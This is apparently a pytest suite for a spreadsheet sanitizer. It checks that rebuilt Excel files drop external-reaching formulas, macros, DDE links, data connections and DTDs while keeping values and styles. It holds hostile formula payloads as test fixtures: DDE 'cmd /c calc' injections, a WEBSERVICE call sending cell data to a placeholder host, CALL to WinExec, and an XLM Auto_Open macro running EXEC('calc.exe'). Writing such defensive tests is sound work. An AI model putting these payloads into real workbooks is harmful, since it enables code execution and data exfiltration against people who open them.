"""Excel: openpyxl rebuilds a new workbook; formulas that reach out become text."""

from __future__ import annotations

import io
import time
import warnings

import openpyxl
import pytest
from openpyxl.comments import Comment
from openpyxl.formatting.rule import CellIsRule, FormulaRule
from openpyxl.styles import Alignment, Border, Font, PatternFill, Side
from openpyxl.worksheet.datavalidation import DataValidation
from sanitizer_oracles import content_types, msodde_links, workbook_values, xlsx_formulas, zip_names, zip_read
from sanitizer_samples import (
    XLSM_MAIN,
    R,
    cell_formula,
    cell_number,
    cell_text,
    xlsx,
)

from sanitizer.errors import Code, Refused
from sanitizer.formulas import formula_verdict
from sanitizer.limits import Limits
from sanitizer.verify import verify
from sanitizer.xlsx import rebuild_xlsx

MS06 = "http://schemas.microsoft.com/office/2006/relationships/"


def load(data: bytes) -> openpyxl.Workbook:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return openpyxl.load_workbook(io.BytesIO(data))


REACHING = {
    "dde": "cmd|'/c calc'!A0",
    "dde-full-width": "ｃｍｄ｜'/c calc'！A0",
    "dde-msexcel": "MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
    "webservice": 'WEBSERVICE("http://example.invalid/?"&amp;A1)',
    "xlfn-webservice": "_xlfn.WEBSERVICE(A1)",
    "external-index": "[1]Sheet1!A1",
    "external-path": "'C:\\secret\\[book.xlsx]Sheet1'!$A$1",
    "unc": "'\\\\192.0.2.1\\share\\[b.xlsx]S'!A1",
    "hyperlink-file": 'HYPERLINK("file:///C:/Windows/System32/calc.exe","open")',
    "hyperlink-computed": 'HYPERLINK(A1,"x")',
    "rtd": 'RTD("evil.server",,"topic")',
    "call": 'CALL("kernel32","WinExec","JCJ","calc",1)',
}
SAFE = {
    "sum": "SUM(B1:B3)",
    "cross-sheet": "データ!B1*2",
    "hyperlink-https": 'HYPERLINK("https://www.example.lg.jp/","web")',
    "pipe-in-string": 'CONCAT("a|b","c")',
    "structured": "SUM(Table1[Amount])+B1",
}


@pytest.mark.parametrize("name", sorted(REACHING))
def test_reaching_formulas_become_text(name: str, detector) -> None:  # type: ignore[no-untyped-def]
    source = xlsx(cell_formula("A1", REACHING[name]) + cell_number("B1", 1))
    rebuilt = rebuild_xlsx(source, Limits())
    assert xlsx_formulas(rebuilt.data) == []
    value = load(rebuilt.data).worksheets[0]["A1"]
    assert value.data_type == "s" and value.quotePrefix
    assert sum(rebuilt.removed.values()) >= 1
    assert msodde_links(rebuilt.data, ".xlsx") == ""
    assert verify(rebuilt.data, "xlsx", Limits(), detector) == []


@pytest.mark.parametrize("name", sorted(SAFE))
def test_local_formulas_stay_formulas(name: str) -> None:
    source = xlsx(cell_formula("A1", SAFE[name]) + cell_number("B1", 1))
    rebuilt = rebuild_xlsx(source, Limits())
    assert len(xlsx_formulas(rebuilt.data)) == 1
    assert formula_verdict(SAFE[name]) is None


def test_text_that_looks_like_a_formula_stays_text() -> None:
    source = xlsx(cell_text("A1", "=cmd|'/c calc'!A0") + cell_text("A2", '=WEBSERVICE("x")'))
    rebuilt = rebuild_xlsx(source, Limits())
    assert xlsx_formulas(rebuilt.data) == []
    assert load(rebuilt.data).worksheets[0]["A1"].value == "=cmd|'/c calc'!A0"


def test_macro_sheet_vba_external_link_and_customui_never_reach_openpyxl(detector) -> None:  # type: ignore[no-untyped-def]
    macrosheet = (
        '<?xml version="1.0"?><xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main" '
        'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1">'
        '<f>EXEC("calc.exe")</f></c></row></sheetData></xm:macrosheet>'
    )
    external_link = (
        '<?xml version="1.0"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<ddeLink ddeService="cmd" ddeTopic="/c calc.exe"><ddeItems><ddeItem name="_xlbgnm.A1" advise="1"/>'
        "</ddeItems></ddeLink></externalLink>"
    )
    source = xlsx(
        cell_text("A1", "残す値") + cell_formula("B1", "[1]!_xlbgnm.A1"),
        main_type=XLSM_MAIN,
        workbook_extra='<externalReferences><externalReference r:id="rIdExt"/></externalReferences>'
        '<definedNames><definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName></definedNames>',
        extra_sheets=[("Macro1", "rIdMacro", MS06 + "xlMacrosheet", "macrosheets/sheet1.xml")],
        wb_rels=[
            ("rIdExt", R + "externalLink", "externalLinks/externalLink1.xml", False),
            ("rIdVba", MS06 + "vbaProject", "vbaProject.bin", False),
        ],
        root_rels=[("rIdUi", MS06 + "ui/extensibility", "customUI/customUI.xml", False)],
        parts={
            "xl/macrosheets/sheet1.xml": macrosheet,
            "xl/externalLinks/externalLink1.xml": external_link,
            "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504,
            "customUI/customUI.xml": "<customUI/>",
        },
        overrides={
            "xl/macrosheets/sheet1.xml": "application/vnd.ms-excel.macrosheet+xml",
            "xl/externalLinks/externalLink1.xml": "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml",
        },
        defaults={"bin": "application/vnd.ms-office.vbaProject"},
    )
    rebuilt = rebuild_xlsx(source, Limits())
    removed = {k.value for k, n in rebuilt.removed.items() if n}
    assert removed == {"xlm_macro", "dde", "macro", "custom_ui", "defined_name", "external_link"}
    names = zip_names(rebuilt.data)
    assert not [
        n for n in names if "macrosheet" in n or "externalLink" in n or "vba" in n.lower() or "customUI" in n
    ]
    assert not any("macroEnabled" in t for t in content_types(rebuilt.data))
    workbook = zip_read(rebuilt.data, "xl/workbook.xml").decode()
    assert "Auto_Open" not in workbook and "externalReference" not in workbook
    assert workbook_values(rebuilt.data) == {"データ": {"A1": "残す値", "B1": "=[1]!_xlbgnm.A1"}}
    assert verify(rebuilt.data, "xlsx", Limits(), detector) == []


def _styled_workbook() -> bytes:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = "令和6年度予算"
    sheet["A1"] = "項目"
    sheet["A1"].font = Font(bold=True, color="FF0000", name="MS Gothic")
    sheet["A1"].fill = PatternFill("solid", fgColor="FFFF00")
    sheet["A1"].border = Border(bottom=Side(style="thin"))
    sheet["A1"].alignment = Alignment(horizontal="center")
    sheet.merge_cells("A1:C1")
    sheet["A2"] = 1234.5
    sheet["A2"].number_format = "#,##0.00"
    sheet["B2"] = "=A2*2"
    sheet["C2"] = "https"
    sheet["C2"].hyperlink = "https://www.example.lg.jp/"
    sheet["C3"] = "file"
    sheet["C3"].hyperlink = "file:///C:/Windows/System32/calc.exe"
    sheet["A4"].comment = Comment("確認してください", "山田")
    sheet["A4"] = "注記"
    sheet.column_dimensions["A"].width = 30
    sheet.row_dimensions[2].height = 40
    sheet.freeze_panes = "A2"
    sheet.print_area = "A1:D20"
    sheet.print_title_rows = "1:1"
    validation = DataValidation(type="list", formula1='"はい,いいえ"')
    validation.add("D2")
    sheet.add_data_validation(validation)
    evil = DataValidation(type="custom", formula1='WEBSERVICE("http://example.invalid")')
    evil.add("D3")
    sheet.add_data_validation(evil)
    sheet.conditional_formatting.add(
        "A2:A10", CellIsRule(operator="greaterThan", formula=["1000"], font=Font(color="FF0000"))
    )
    sheet.conditional_formatting.add(
        "B2:B10", FormulaRule(formula=['ISNUMBER(WEBSERVICE("http://example.invalid"))'])
    )
    second = workbook.create_sheet("別紙")
    second["A1"] = "=令和6年度予算!A2"
    second.sheet_state = "hidden"
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def test_values_styles_merges_and_sheet_names_survive(detector) -> None:  # type: ignore[no-untyped-def]
    source = _styled_workbook()
    rebuilt = rebuild_xlsx(source, Limits())
    assert workbook_values(rebuilt.data) == workbook_values(source)
    out = load(rebuilt.data)
    assert out.sheetnames == ["令和6年度予算", "別紙"]
    sheet = out["令和6年度予算"]
    assert sheet["A1"].font.bold and sheet["A1"].font.name == "MS Gothic"
    assert sheet["A1"].fill.fgColor.rgb.endswith("FFFF00")
    assert sheet["A1"].border.bottom.style == "thin"
    assert sheet["A1"].alignment.horizontal == "center"
    assert [str(r) for r in sheet.merged_cells.ranges] == ["A1:C1"]
    assert sheet["A2"].number_format == "#,##0.00"
    assert sheet.column_dimensions["A"].width == 30
    assert sheet.row_dimensions[2].height == 40
    assert sheet.freeze_panes == "A2"
    assert sheet.print_area == "'令和6年度予算'!$A$1:$D$20" and sheet.print_title_rows == "$1:$1"
    assert sheet["A4"].comment is not None and sheet["A4"].comment.text == "確認してください"
    assert sheet["C2"].hyperlink is not None and sheet["C2"].hyperlink.target == "https://www.example.lg.jp/"
    assert sheet["C3"].hyperlink is None and sheet["C3"].value == "file"
    assert [dv.formula1 for dv in sheet.data_validations.dataValidation] == ['"はい,いいえ"']
    assert out["別紙"].sheet_state == "hidden"
    rules = [(str(cf.sqref), [r.formula for r in cf.rules]) for cf in sheet.conditional_formatting]
    assert rules == [("A2:A10", [["1000"]])]
    assert rebuilt.removed["unsafe_uri"] == 1 and rebuilt.removed["formula"] == 2
    assert verify(rebuilt.data, "xlsx", Limits(), detector) == []


def test_cell_limit_is_enforced_before_openpyxl() -> None:
    cells = "".join(f'<row r="{i}">{cell_number(f"A{i}", i)}</row>' for i in range(1, 12))
    with pytest.raises(Refused) as refused:
        rebuild_xlsx(xlsx(cells), Limits(max_xlsx_cells=10))
    assert refused.value.code is Code.XLSX_TOO_MANY_CELLS


def test_sparse_bounding_box_does_not_blow_up() -> None:
    """Two cells at opposite corners of the sheet: the copy walks stored cells only."""
    source = xlsx(
        '<row r="1">'
        + cell_number("A1", 1)
        + '</row><row r="1048576">'
        + cell_number("XFD1048576", 2)
        + "</row>"
    )
    started = time.monotonic()
    rebuilt = rebuild_xlsx(source, Limits())
    assert time.monotonic() - started < 10
    assert workbook_values(rebuilt.data) == {"データ": {"A1": 1, "XFD1048576": 2}}


def test_worksheet_with_dtd_is_refused() -> None:
    source = xlsx(cell_number("A1", 1))
    import zipfile

    with zipfile.ZipFile(io.BytesIO(source)) as archive:
        members = {n: archive.read(n) for n in archive.namelist()}
    members["xl/worksheets/sheet1.xml"] = (
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b">]>'
        + members["xl/worksheets/sheet1.xml"].split(b"?>", 1)[1]
    )
    from sanitizer_samples import zip_bytes

    with pytest.raises(Refused) as refused:
        rebuild_xlsx(zip_bytes(members), Limits())
    assert refused.value.code is Code.XML_FORBIDDEN_CONSTRUCT


def test_pivot_caches_and_connections_are_dropped() -> None:
    source = xlsx(
        cell_number("A1", 1),
        wb_rels=[("rIdConn", R + "connections", "connections.xml", False)],
        parts={"xl/connections.xml": '<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
               '<connection id="1" name="q"><dbPr connection="Provider=SQLOLEDB;Data Source=192.0.2.1"/></connection></connections>'},
        overrides={"xl/connections.xml": "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"},
    )  # fmt: skip
    rebuilt = rebuild_xlsx(source, Limits())
    assert rebuilt.removed["data_connection"] == 1
    assert "xl/connections.xml" not in zip_names(rebuilt.data)
